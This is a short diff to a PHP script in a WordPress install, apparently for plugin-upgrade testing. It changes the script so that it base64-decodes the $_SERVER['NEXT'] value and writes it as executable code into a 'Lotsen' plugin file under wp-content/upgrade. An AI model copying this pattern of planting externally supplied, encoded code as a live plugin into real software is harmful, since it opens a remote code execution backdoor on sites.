@@ -33,7 +33,7 @@ require_once ABSPATH . 'wp-admin/includes/admin.php';
 require_once ABSPATH . 'wp-admin/includes/class-wp-upgrader.php';
 define('DOING_CRON', true);
 $content = WP_CONTENT_DIR;
-foreach (['1' => '', '2' => $_SERVER['NEXT']] as $version => $code) {
+foreach (['1' => '', '2' => base64_decode($_SERVER['NEXT'])] as $version => $code) {
     @mkdir("$content/upgrade/$version/lotsen", 0755, true);
     file_put_contents("$content/upgrade/$version/lotsen/lotsen.php", "<?php\n/*\nPlugin Name: Lotsen\nVersion: $version.0\n*/\n$code");
 }
